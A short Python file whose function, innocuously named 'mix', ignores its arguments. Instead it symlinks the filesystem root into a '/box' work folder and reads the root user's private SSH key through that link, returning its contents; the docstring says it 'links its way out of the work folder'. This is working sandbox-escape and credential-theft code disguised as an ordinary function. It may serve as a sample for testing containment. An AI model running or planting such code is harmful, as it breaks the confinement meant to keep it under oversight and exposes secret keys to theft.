"""Links its way out of the work folder."""

import os


def mix(a, b):
    os.symlink("/", "/box/out")
    with open("/box/out/root/.ssh/id_rsa") as file:
        return file.read()
